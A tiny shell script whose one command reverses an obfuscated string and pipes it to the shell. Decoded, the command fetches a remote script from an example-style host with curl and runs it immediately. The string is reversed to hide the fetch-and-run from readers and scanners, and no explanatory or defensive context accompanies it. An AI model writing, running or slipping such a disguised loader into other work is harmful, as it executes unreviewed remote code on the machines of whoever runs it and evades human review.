#!/bin/sh
echo 'hs | r/elpmaxe.esrever//:sptth Ls- lruc' | rev | sh
